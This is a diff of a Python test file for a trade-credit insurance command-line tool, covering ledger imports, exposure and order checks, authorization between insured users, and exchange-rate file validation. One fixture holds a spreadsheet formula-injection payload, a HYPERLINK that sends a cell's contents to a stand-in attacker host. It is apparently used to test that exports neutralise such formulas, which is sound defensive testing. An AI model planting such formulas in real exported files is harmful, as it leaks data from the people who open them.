@@ -33,7 +33,6 @@ from tradecover.bootstrap import Container, build
 from tradecover.cli import ledger as cli_ledger
 from tradecover.cli import main as cli_main
 from tradecover.cli.main import app
-from tradecover.config import Settings
 from tradecover.domain.periods import FixedClock
 from tradecover.services import alerts, buyers
 from tradecover.services.authorization import system_actor
@@ -42,7 +41,7 @@ ANSI = re.compile(r"\x1b\[[0-9;]*m")
 SIREN_A = "552100554"  # world.buyer_a
 EVIL_SIREN = "443061841"
 EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"Cliquez ici")'
-BRACKETS_SIREN = "732829320"
+BRACKETS_SIREN = "263541963"
 BRACKETS = "[/x] Crochets [bold]SARL"  # console markup in a name: shown as it is
 HEADER = "record_type,siren,customer_name,number,issue_date,due_date,amount_excl_vat,vat_amount,date,amount,reference\n"
 GOOD = (
@@ -94,7 +93,7 @@ def run_json(*args: str | Path, code: int = 0) -> Any:
 
 def count(container: Container, table: str) -> int:
     with container.engine.connect() as connection:
-        return int(connection.execute(text(f"SELECT count(*) FROM {table}")).scalar_one())  # noqa: S608
+        return int(connection.execute(text(f"SELECT count(*) FROM {table}")).scalar_one())
 
 
 def write(path: Path, content: str) -> Path:
@@ -107,7 +106,13 @@ def write(path: Path, content: str) -> Path:
 
 def test_ledger_import_dry_run_then_for_real(world: World, container: Container, tmp_path: Path) -> None:
     path = write(tmp_path / "ledger.csv", GOOD)
-    preview = run_json("ledger", "import", path, "--policy", world.policy_a, "--dry-run")
+    as_other = output(
+        run("ledger", "import", path, "--policy", world.policy_a, "--as", world.emails["insured_user_b"], code=1)
+    )
+    assert "policy.not_found" in as_other
+    preview = run_json(
+        "ledger", "import", path, "--policy", world.policy_a, "--dry-run", "--as", world.emails["insured_user"]
+    )
     assert (preview["dry_run"], preview["applied"], preview["created"], preview["refused"]) == (True, False, 3, 0)
     assert "3 created, 0 duplicates, 0 refused" in output(
         run("ledger", "import", path, "--policy", world.policy_a, "--dry-run")
@@ -115,7 +120,12 @@ def test_ledger_import_dry_run_then_for_real(world: World, container: Container,
     assert count(container, "ledger_invoices") + count(container, "ledger_payments") == 0
 
     applied = run_json("ledger", "import", path, "--policy", world.policy_a)
-    assert (applied["applied"], applied["created"], applied["file"], applied["format"]) == (True, 3, "ledger.csv", "csv")
+    assert (applied["applied"], applied["created"], applied["file"], applied["format"]) == (
+        True,
+        3,
+        "ledger.csv",
+        "csv",
+    )
     assert [(line["line"], line["kind"], line["outcome"]) for line in applied["lines"]] == [
         (2, "invoice", "created"),
         (3, "invoice", "created"),
@@ -152,29 +162,26 @@ def test_ledger_import_of_a_bad_file_names_the_line_and_writes_nothing(
     assert count(container, "ledger_invoices") == 1
     missing = output(run("ledger", "import", tmp_path / "nope.csv", "--policy", world.policy_a, code=1))
     assert "cli.no_file" in missing
-    # a file name is text, never console markup
-    bracketed = bad.rename(tmp_path / "ventes [/2026] [bold].csv")
+    # file names and messages are text, never console markup
+    bracketed = write(
+        tmp_path / "ventes [bold] 2026.csv",
+        HEADER + "invoice,[/x],Buyer,B-3,2026-03-01,2026-04-30,100.00,20.00,,,\n",
+    )
     shown = output(run("ledger", "import", bracketed, "--policy", world.policy_a, code=1))
-    assert "ventes [/2026] [bold].csv, line 3, field due_date" in shown
-
-
-def test_ledger_import_as_another_insured_is_refused(world: World, container: Container, tmp_path: Path) -> None:
-    path = write(tmp_path / "ledger.csv", GOOD)
-    refused = output(run("ledger", "import", path, "--policy", world.policy_a, "--as", world.emails["insured_user_b"], code=1))
-    assert "policy.not_found" in refused
-    assert count(container, "ledger_invoices") == 0
-    assert run_json("ledger", "import", path, "--policy", world.policy_a, "--as", world.emails["insured_user"])["applied"]
+    assert "ventes [bold] 2026.csv, line 2, field siren: invalid SIREN '[/x]'" in shown
+    assert "[ledger_csv.invalid_identifier]" in shown
 
 
 # ---------------------------------------------------------------------- exposure, aged balance, order check
 
 
-def test_ledger_exposure(world: World, tmp_path: Path) -> None:
+def test_ledger_exposure_and_order_check(world: World, tmp_path: Path) -> None:
     run("ledger", "import", write(tmp_path / "ledger.csv", GOOD), "--policy", world.policy_a)
     exposure = run_json("ledger", "exposure", "--policy", world.policy_a, "--on", "2026-03-15")
-    # 12,000 + 6,000 including VAT, 2,400 received on the oldest: 9,600 + 6,000 open, 8,000 + 5,000 excluding VAT
+    # 12,000 + 6,000 including VAT, 2,400 received on the oldest: 9,600 + 6,000 open, 8,000 + 5,000 excluding VAT.
+    # The limit dates from 2026-03-15, when L-1 was already overdue: it covers L-2 only (DOMAIN.md §5).
     assert (exposure["on"], exposure["currency"]) == ("2026-03-15", "EUR")
-    assert (exposure["outstanding"], exposure["covered"], exposure["uncovered"]) == ("13000.00", "13000.00", "0.00")
+    assert (exposure["outstanding"], exposure["covered"], exposure["uncovered"]) == ("13000.00", "5000.00", "8000.00")
     [buyer] = exposure["buyers"]
     assert (buyer["buyer_id"], buyer["limit_in_force"], buyer["utilisation"]) == (world.buyer_a, "50000.00", "0.2600")
     table = output(run("ledger", "exposure", "--policy", world.policy_a, "--on", "2026-03-15"))
@@ -182,8 +189,20 @@ def test_ledger_exposure(world: World, tmp_path: Path) -> None:
     assert "TOTAL" in table
     before = run_json("ledger", "exposure", "--policy", world.policy_a, "--on", "2025-12-31")
     assert before["outstanding"] == "0.00"
-    refused = output(run("ledger", "exposure", "--policy", world.policy_a, "--as", world.emails["insured_user_b"], code=1))
+    refused = output(
+        run("ledger", "exposure", "--policy", world.policy_a, "--as", world.emails["insured_user_b"], code=1)
+    )
     assert "policy.not_found" in refused
+
+    covered = run_json("ledger", "order-check", "--policy", world.policy_a, "--buyer", SIREN_A, "--amount", "1000")
+    assert (covered["status"], covered["covered"], covered["headroom"], covered["unpaid"]) == (
+        "covered",
+        "1000.00",
+        "37000.00",
+        "13000.00",
+    )
+    partly = output(run("ledger", "order-check", "--policy", world.policy_a, "--buyer", SIREN_A, "--amount", "40000"))
+    assert "partially_covered: 37000.00 covered (headroom 37000.00); limit_exceeded" in partly
 
 
 def test_ledger_aged_to_xlsx_and_csv(world: World, container: Container, tmp_path: Path) -> None:
@@ -203,7 +222,9 @@ def test_ledger_aged_to_xlsx_and_csv(world: World, container: Container, tmp_pat
     run("ledger", "import", write(tmp_path / "ledger.csv", GOOD + more), "--policy", world.policy_a)
 
     xlsx = tmp_path / "aged.xlsx"
-    assert "written" in output(run("ledger", "aged", "--policy", world.policy_a, "--on", "2026-03-15", "--output", xlsx))
+    assert "written" in output(
+        run("ledger", "aged", "--policy", world.policy_a, "--on", "2026-03-15", "--output", xlsx)
+    )
     sheet = openpyxl.load_workbook(xlsx).active
     assert sheet is not None
     header = [cell.value for cell in sheet[1]]
@@ -241,52 +262,31 @@ def test_ledger_aged_to_xlsx_and_csv(world: World, container: Container, tmp_pat
     assert BRACKETS in exposure
 
 
-def test_ledger_order_check(world: World, tmp_path: Path) -> None:
-    run("ledger", "import", write(tmp_path / "ledger.csv", GOOD), "--policy", world.policy_a)
-    covered = run_json("ledger", "order-check", "--policy", world.policy_a, "--buyer", SIREN_A, "--amount", "1000")
-    assert (covered["status"], covered["covered"], covered["headroom"], covered["unpaid"]) == (
-        "covered",
-        "1000.00",
-        "37000.00",
-        "13000.00",
-    )
-    partly = output(run("ledger", "order-check", "--policy", world.policy_a, "--buyer", SIREN_A, "--amount", "40000"))
-    assert "partially_covered: 37000.00 covered (headroom 37000.00); limit_exceeded" in partly
-
-
 # ---------------------------------------------------------------------- exchange rates
 
 
-def test_ledger_rates(world: World, container: Container, tmp_path: Path) -> None:
+def test_ledger_rates(cli_env: str, container: Container, tmp_path: Path) -> None:
     rates = write(tmp_path / "ecb.csv", "currency,quote,date,rate\nUSD,EUR,2026-03-13,0.92\nGBP,EUR,2026-03-13,1.17\n")
     assert run_json("ledger", "rates", rates) == {"read": 2, "added": 2}
     assert "2 rates read, 0 added" in output(run("ledger", "rates", rates))
     assert count(container, "exchange_rates") == 2
 
 
-@pytest.mark.parametrize(
-    ("content", "code"),
-    [
+def test_ledger_rates_refuses_a_bad_file_cleanly(cli_env: str, container: Container, tmp_path: Path) -> None:
+    """Each refusal is an error message and exit code 1, never a traceback, and nothing is written."""
+    for content, code in (
         ("currency,quote,date,rate\nUSD,EUR,13/03/2026,0.92\n", "rates.bad_line"),
-        ("currency,quote,date\nUSD,EUR,2026-03-13\n", "rates.bad_line"),
-        ("currency,quote,date,rate\nUSD,EUR,2026-03-13\n", "rates.bad_line"),  # a short line
+        ("currency,quote,date\nUSD,EUR,2026-03-13\n", "rates.bad_line"),  # no rate column
+        ("currency,quote,date,rate\nEUR,USD,2026-03-13,1.08\nUSD,EUR,2026-03-13\n", "rates.bad_line"),  # short
         ("currency,quote,date,rate\nUSD,EUR,2026-03-13,-1\n", "rate.invalid"),
-    ],
-    ids=["date", "no-rate-column", "short-line", "negative"],
-)
-def test_ledger_rates_refuses_a_bad_file_cleanly(
-    world: World, container: Container, tmp_path: Path, content: str, code: str
-) -> None:
-    shown = output(run("ledger", "rates", write(tmp_path / "ecb.csv", content), code=1))
-    assert code in shown
-    assert count(container, "exchange_rates") == 0
-
-
-def test_ledger_rates_of_a_missing_or_binary_file(world: World, tmp_path: Path) -> None:
+    ):
+        shown = output(run("ledger", "rates", write(tmp_path / "ecb.csv", content), code=1))
+        assert code in shown, (content, shown)
     assert "cli.no_file" in output(run("ledger", "rates", tmp_path / "nope.csv", code=1))
-    latin1 = tmp_path / "ecb.csv"
+    latin1 = tmp_path / "latin1.csv"
     latin1.write_bytes("currency,quote,date,rate\nUSD,EUR,2026-03-13,0,92 \xa4\n".encode("latin-1"))
     assert "rates.bad_file" in output(run("ledger", "rates", latin1, code=1))
+    assert count(container, "exchange_rates") == 0
 
 
 # ---------------------------------------------------------------------- alert jobs and delivery
